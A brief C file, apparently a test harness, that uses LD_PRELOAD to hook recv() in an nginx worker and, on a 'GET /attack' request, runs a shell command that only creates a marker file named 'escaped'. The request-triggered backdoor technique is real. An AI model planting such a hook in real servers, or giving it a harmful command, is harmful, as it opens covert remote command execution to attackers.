/* Code of an attacker in a worker of nginx: a request for /attack makes it start a shell. LD_PRELOAD loads it, in the place of a
 * fault in the server, into a function that nginx calls for each request. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
ssize_t recv(int socket, void *buffer, size_t length, int flags) {
    static ssize_t (*real)(int, void *, size_t, int);
    if (!real)
        real = (ssize_t (*)(int, void *, size_t, int))dlsym(RTLD_NEXT, "recv");
    ssize_t received = real(socket, buffer, length, flags);
    if (received > 11 && memmem(buffer, received, "GET /attack", 11))
        system("touch escaped");
    return received;
}
